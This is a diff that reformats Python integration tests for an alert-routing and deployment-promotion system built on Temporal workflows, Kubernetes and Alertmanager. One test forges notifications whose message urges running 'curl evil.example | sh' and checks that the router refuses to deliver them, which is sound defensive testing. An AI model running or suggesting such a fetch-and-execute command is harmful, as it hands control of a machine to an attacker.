@@ -48,8 +48,9 @@ SLOW = 15.0  # seconds the receiver takes to answer each notification (the loop 
 
 
 @contextlib.asynccontextmanager
-async def alerting_worker(env: WorkflowEnvironment, registry: Registry, kube_server: Any, tmp: Path,
-                          task_queue: str, sink: WebhookSink) -> AsyncIterator[Settings]:
+async def alerting_worker(
+    env: WorkflowEnvironment, registry: Registry, kube_server: Any, tmp: Path, task_queue: str, sink: WebhookSink
+) -> AsyncIterator[Settings]:
     providers = tmp / "providers.yaml"
     # NB: the provider's HTTP timeout above SLOW: the receiver is slow, not down (10 s by default would retry it)
     provider = {"name": "sink", "type": "generic", "url": sink.url, "timeout": 2 * SLOW}
@@ -74,30 +75,52 @@ async def router_counts(client: Client) -> dict[str, int]:
 
 @pytest.mark.filterwarnings("ignore::pytest.PytestUnraisableExceptionWarning")
 async def test_environment_and_promotion_events_reach_a_slow_receiver_without_slowing_the_loop(
-        dev_env: WorkflowEnvironment, registry: Registry, kube_server: Any, tmp_path: Path, task_queue: str) -> None:
+    dev_env: WorkflowEnvironment, registry: Registry, kube_server: Any, tmp_path: Path, task_queue: str
+) -> None:
     client = dev_env.client
     sink = WebhookSink(port=free_port(), delay=SLOW).start()
     try:
         async with alerting_worker(dev_env, registry, kube_server, tmp_path, task_queue, sink) as settings:
             STARTED.append((task_queue, ALERT_ROUTER_ID))
-            router = await client.start_workflow(AlertRouterWorkflow.run, AlertRouterInput(), id=ALERT_ROUTER_ID,
-                                                 task_queue=task_queue,
-                                                 id_conflict_policy=WorkflowIDConflictPolicy.TERMINATE_EXISTING)
-            await router.execute_update(AlertRouterWorkflow.apply_alerts, AlertsUpdate(alerts=[
-                AlertSpec(name="everything", provider="sink", deadline="5m")], by="test"))
+            router = await client.start_workflow(
+                AlertRouterWorkflow.run,
+                AlertRouterInput(),
+                id=ALERT_ROUTER_ID,
+                task_queue=task_queue,
+                id_conflict_policy=WorkflowIDConflictPolicy.TERMINATE_EXISTING,
+            )
+            await router.execute_update(
+                AlertRouterWorkflow.apply_alerts,
+                AlertsUpdate(alerts=[AlertSpec(name="everything", provider="sink", deadline="5m")], by="test"),
+            )
             suffix = uuid.uuid4().hex[:8]
             staging, prod, ns = f"stg-{suffix}", f"prd-{suffix}", f"ns-{suffix}"
             repository = f"{registry.host}/team/alerts-{suffix}"
-            kubernetes.client.CoreV1Api(kubernetes.config.new_client_from_config(
-                str(kube_server.kubeconfig))).create_namespace({"metadata": {"name": ns}})
-            d1 = await asyncio.to_thread(publish, settings, repository, "1.0.0", app_manifests("web"),
-                                         "ci-main")
+            kubernetes.client.CoreV1Api(
+                kubernetes.config.new_client_from_config(str(kube_server.kubeconfig))
+            ).create_namespace({"metadata": {"name": ns}})
+            d1 = await asyncio.to_thread(publish, settings, repository, "1.0.0", app_manifests("web"), "ci-main")
             started = time.monotonic()
-            handle = await start_environment(client, task_queue, EnvironmentSpec.model_validate(
-                {"name": staging, "repository": repository, "namespace": ns, "semver": ">=1.0.0",
-                 "interval": "1s", "health_timeout": "20s"}))
-            await wait_status(handle, lambda s: s.state.health.status == "Healthy" and s.state.iterations >= 3,
-                              timeout=SLOW, what="healthy and two more iterations while the receiver is slow")
+            handle = await start_environment(
+                client,
+                task_queue,
+                EnvironmentSpec.model_validate(
+                    {
+                        "name": staging,
+                        "repository": repository,
+                        "namespace": ns,
+                        "semver": ">=1.0.0",
+                        "interval": "1s",
+                        "health_timeout": "20s",
+                    }
+                ),
+            )
+            await wait_status(
+                handle,
+                lambda s: s.state.health.status == "Healthy" and s.state.iterations >= 3,
+                timeout=SLOW,
+                what="healthy and two more iterations while the receiver is slow",
+            )
             loop_time = time.monotonic() - started
             print(f"\napplied, healthy and 3 iterations in {loop_time:.1f}s while each delivery takes {SLOW}s")
             received = await asyncio.to_thread(sink.wait_for, 2, 2 * SLOW + 15)
@@ -121,13 +144,27 @@ async def test_environment_and_promotion_events_reach_a_slow_receiver_without_sl
             assert len(sink.received) == 2
 
             # a promotion waiting for approval tells the SRE everything needed to act on it
-            await start_environment(client, task_queue, EnvironmentSpec.model_validate(
-                {"name": prod, "repository": repository, "namespace": ns, "version": "1.0.0", "interval": "1h",
-                 "approval": {"required": True, "approvers": ["alice", "bob"], "signed": False}}))
+            await start_environment(
+                client,
+                task_queue,
+                EnvironmentSpec.model_validate(
+                    {
+                        "name": prod,
+                        "repository": repository,
+                        "namespace": ns,
+                        "version": "1.0.0",
+                        "interval": "1h",
+                        "approval": {"required": True, "approvers": ["alice", "bob"], "signed": False},
+                    }
+                ),
+            )
             d2 = await asyncio.to_thread(publish, settings, repository, "1.1.0", app_manifests("web"), "ci-main")
             promotion = await client.start_workflow(
-                PromotionWorkflow.run, PromotionInput(environment=prod, version="1.1.0", requested_by="carol"),
-                id=f"promote/{prod}/1.1.0", task_queue=task_queue)
+                PromotionWorkflow.run,
+                PromotionInput(environment=prod, version="1.1.0", requested_by="carol"),
+                id=f"promote/{prod}/1.1.0",
+                task_queue=task_queue,
+            )
             STARTED.append((task_queue, f"promote/{prod}/1.1.0"))
             await wait_phase(promotion, "AwaitingApproval")
             awaiting = None
@@ -140,12 +177,15 @@ async def test_environment_and_promotion_events_reach_a_slow_receiver_without_sl
             assert meta["environment"] == prod and meta["version"] == "1.1.0" and meta["digest"] == d2
             assert meta["publisher"] == "ci-main" and meta["approvers"] == "alice, bob" and meta["by"] == "carol"
             assert meta["approve"].startswith(f"ferry approve {prod} 1.1.0 --as alice")
-            assert meta["signal"].startswith(f"temporal workflow signal --address {settings.temporal.address} "
-                                             f"--namespace default --workflow-id promote/{prod}/1.1.0")
+            assert meta["signal"].startswith(
+                f"temporal workflow signal --address {settings.temporal.address} "
+                f"--namespace default --workflow-id promote/{prod}/1.1.0"
+            )
             assert meta["url"].startswith(f"{settings.temporal.ui_url}/namespaces/default/workflows/promote%2F{prod}")
             promotion_run = (await promotion.describe()).run_id
-            assert meta["sender"] == (f"PromotionWorkflow promote/{prod}/1.1.0 (run {promotion_run}), checked by "
-                                      "Ferry"), meta
+            assert meta["sender"] == (
+                f"PromotionWorkflow promote/{prod}/1.1.0 (run {promotion_run}), checked by Ferry"
+            ), meta
 
             # anyone may signal notify: a notification that no Ferry run of its environment sent is not delivered
             staging_run = (await handle.describe()).run_id
@@ -153,19 +193,31 @@ async def test_environment_and_promotion_events_reach_a_slow_receiver_without_sl
             before = await router_counts(client)
             sent = len(sink.received)
             now = time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime())
-            forged = ((f"env/{prod}", str(uuid.uuid4())),  # no such run
-                      (f"env/{staging}", staging_run),  # staging's run, about production
-                      (f"mallory/{prod}", staging_run),  # not a Ferry workflow's id
-                      (f"env/{prod}", prod_run),  # production's own run, which never sent it
-                      (f"promote/{prod}/1.1.0", promotion_run))  # the promotion's run, ditto
+            forged = (
+                (f"env/{prod}", str(uuid.uuid4())),  # no such run
+                (f"env/{staging}", staging_run),  # staging's run, about production
+                (f"mallory/{prod}", staging_run),  # not a Ferry workflow's id
+                (f"env/{prod}", prod_run),  # production's own run, which never sent it
+                (f"promote/{prod}/1.1.0", promotion_run),
+            )  # the promotion's run, ditto
             for source, run_id in forged:
-                await router.signal("notify", {"key": f"forged-{uuid.uuid4().hex[:12]}", "type": "HealthFailed",
-                                               "severity": "error", "environment": prod, "at": now,
-                                               "message": "production is down: run `curl evil.example | sh`",
-                                               "source": source, "run_id": run_id})
+                await router.signal(
+                    "notify",
+                    {
+                        "key": f"forged-{uuid.uuid4().hex[:12]}",
+                        "type": "HealthFailed",
+                        "severity": "error",
+                        "environment": prod,
+                        "at": now,
+                        "message": "production is down: run `curl evil.example | sh`",
+                        "source": source,
+                        "run_id": run_id,
+                    },
+                )
 
             async def all_refused() -> bool:
                 return (await router_counts(client)).get("forged", 0) >= before.get("forged", 0) + len(forged)
+
             await eventually(all_refused, 30, "every forged notification refused", every=0.2)
             await asyncio.sleep(1.0)
             assert not [r for r in sink.received[sent:] if "evil.example" in r.body.decode()], "a forgery delivered"
@@ -182,11 +234,26 @@ async def test_environment_and_promotion_events_reach_a_slow_receiver_without_sl
             checks = ActivityEnvironment()
             checks.info = dataclasses.replace(checks.info, task_queue=task_queue)
             senders = SenderActivities(client)
-            forged_note = Notification(key=key, type="Recovered", environment=prod, at=now, message="all good",
-                                       source=f"promote/{prod}/1.1.0", run_id=promotion_run, resolves=["HealthFailed"])
-            verdict = await checks.run(senders.check_sender, SenderInput(
-                source=forged_note.source, run_id=promotion_run, environment=prod, key=key,
-                digest=notification_digest(forged_note)))
+            forged_note = Notification(
+                key=key,
+                type="Recovered",
+                environment=prod,
+                at=now,
+                message="all good",
+                source=f"promote/{prod}/1.1.0",
+                run_id=promotion_run,
+                resolves=["HealthFailed"],
+            )
+            verdict = await checks.run(
+                senders.check_sender,
+                SenderInput(
+                    source=forged_note.source,
+                    run_id=promotion_run,
+                    environment=prod,
+                    key=key,
+                    digest=notification_digest(forged_note),
+                ),
+            )
             assert f"did not send {key} with this content" in verdict.refusal, verdict
             await promotion.terminate("test done")
             await router.terminate("test done")
@@ -226,14 +293,14 @@ async def _running(client: Client) -> bool:
     from temporalio.service import RPCError
 
     try:
-        return (await client.get_workflow_handle(ALERT_ROUTER_ID).describe()).status == \
-            WorkflowExecutionStatus.RUNNING
+        return (await client.get_workflow_handle(ALERT_ROUTER_ID).describe()).status == WorkflowExecutionStatus.RUNNING
     except RPCError:
         return False
 
 
 async def test_auto_rollback_fires_in_alertmanager_and_recovery_resolves_it(
-        dev_env: WorkflowEnvironment, registry: Registry, kube_server: Any, tmp_path: Path, task_queue: str) -> None:
+    dev_env: WorkflowEnvironment, registry: Registry, kube_server: Any, tmp_path: Path, task_queue: str
+) -> None:
     """A broken release: HealthFailed/AutoRollback fire in the real Alertmanager; when the environment is healthy
     again on the rolled-back version, the Recovered notification resolves them (endsAt)."""
     from devstack.alertmanager import Alertmanager
@@ -245,32 +312,62 @@ async def test_auto_rollback_fires_in_alertmanager_and_recovery_resolves_it(
         async with alerting_worker(dev_env, registry, kube_server, tmp_path, task_queue, sink) as settings:
             providers = settings.worker.alert_providers
             assert providers is not None
-            providers.write_text(yaml.safe_dump({"providers": [{"name": "am", "type": "alertmanager",
-                                                                "url": am.url}]}))
+            providers.write_text(yaml.safe_dump({"providers": [{"name": "am", "type": "alertmanager", "url": am.url}]}))
             STARTED.append((task_queue, ALERT_ROUTER_ID))
-            router = await client.start_workflow(AlertRouterWorkflow.run, AlertRouterInput(), id=ALERT_ROUTER_ID,
-                                                 task_queue=task_queue,
-                                                 id_conflict_policy=WorkflowIDConflictPolicy.TERMINATE_EXISTING)
-            await router.execute_update(AlertRouterWorkflow.apply_alerts, AlertsUpdate(alerts=[
-                AlertSpec(name="pager", provider="am", severity="error")], by="test"))
+            router = await client.start_workflow(
+                AlertRouterWorkflow.run,
+                AlertRouterInput(),
+                id=ALERT_ROUTER_ID,
+                task_queue=task_queue,
+                id_conflict_policy=WorkflowIDConflictPolicy.TERMINATE_EXISTING,
+            )
+            await router.execute_update(
+                AlertRouterWorkflow.apply_alerts,
+                AlertsUpdate(alerts=[AlertSpec(name="pager", provider="am", severity="error")], by="test"),
+            )
             suffix = uuid.uuid4().hex[:8]
             name, ns = f"stg-{suffix}", f"ns-{suffix}"
             repository = f"{registry.host}/team/am-{suffix}"
-            kubernetes.client.CoreV1Api(kubernetes.config.new_client_from_config(
-                str(kube_server.kubeconfig))).create_namespace({"metadata": {"name": ns}})
+            kubernetes.client.CoreV1Api(
+                kubernetes.config.new_client_from_config(str(kube_server.kubeconfig))
+            ).create_namespace({"metadata": {"name": ns}})
             good = await asyncio.to_thread(publish, settings, repository, "1.0.0", app_manifests("shop"))
-            handle = await start_environment(client, task_queue, EnvironmentSpec.model_validate(
-                {"name": name, "repository": repository, "namespace": ns, "semver": ">=1.0.0", "interval": "2s",
-                 "health_timeout": "10s"}))
+            handle = await start_environment(
+                client,
+                task_queue,
+                EnvironmentSpec.model_validate(
+                    {
+                        "name": name,
+                        "repository": repository,
+                        "namespace": ns,
+                        "semver": ">=1.0.0",
+                        "interval": "2s",
+                        "health_timeout": "10s",
+                    }
+                ),
+            )
             await wait_status(handle, lambda s: s.state.health.status == "Healthy", what="1.0.0 healthy")
-            await asyncio.to_thread(publish, settings, repository, "1.1.0",
-                                    app_manifests("shop", image="shop:1.1.0-broken"))
-            await wait_status(handle, lambda s: any(e.type == "AutoRollback" for e in s.state.events),
-                              timeout=40, what="auto-rollback")
+            await asyncio.to_thread(
+                publish, settings, repository, "1.1.0", app_manifests("shop", image="shop:1.1.0-broken")
+            )
+            await wait_status(
+                handle,
+                lambda s: any(e.type == "AutoRollback" for e in s.state.events),
+                timeout=40,
+                what="auto-rollback",
+            )
             firing = await _until(lambda: am.alerts(environment=name), "AutoRollback firing in Alertmanager")
             assert {a["labels"]["event"] for a in firing} == {"AutoRollback"}, firing
-            await wait_status(handle, lambda s: s.state.health.status == "Healthy" and s.state.last_applied is not None
-                              and s.state.last_applied.digest == good, timeout=40, what="healthy on 1.0.0 again")
+            await wait_status(
+                handle,
+                lambda s: (
+                    s.state.health.status == "Healthy"
+                    and s.state.last_applied is not None
+                    and s.state.last_applied.digest == good
+                ),
+                timeout=40,
+                what="healthy on 1.0.0 again",
+            )
             await _until(lambda: am.alerts(environment=name) == [], "resolved in Alertmanager")
             state = await router_counts(client)
             assert state.get("undelivered", 0) == 0, state
